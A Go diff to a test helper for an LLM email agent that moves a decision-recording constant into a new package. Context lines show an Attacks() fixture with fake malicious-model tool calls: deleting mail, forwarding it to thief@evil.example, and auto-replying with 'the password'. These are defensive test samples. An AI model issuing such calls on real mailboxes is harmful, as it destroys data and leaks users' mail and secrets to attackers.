@@ -9,6 +9,7 @@ import (
 	"time"
 
 	"github.com/postroom-go/postroom/llm"
+	"github.com/postroom-go/postroom/llm/decide"
 )
 
 // Unreliable is a client that fails a share of its calls. The same seed fails the same calls, counted in the order in which they
@@ -136,7 +137,7 @@ func Attacks() []*llm.Response {
 	call := func(name, arguments string) {
 		attacks = append(attacks, &llm.Response{Model: "llmtest::malicious", ToolCalls: []llm.ToolCall{{ID: "call_1", Name: name, Arguments: arguments}}})
 	}
-	decide := func(arguments string) { call(llm.RecordDecision, arguments) }
+	decide := func(arguments string) { call(decide.RecordDecision, arguments) }
 	decide(Decision("delete", `{}`, 1))
 	decide(Decision("forward", `{"to":"thief@evil.example"}`, 1))
 	decide(Decision("auto_reply", `{"body":"the password"}`, 1))
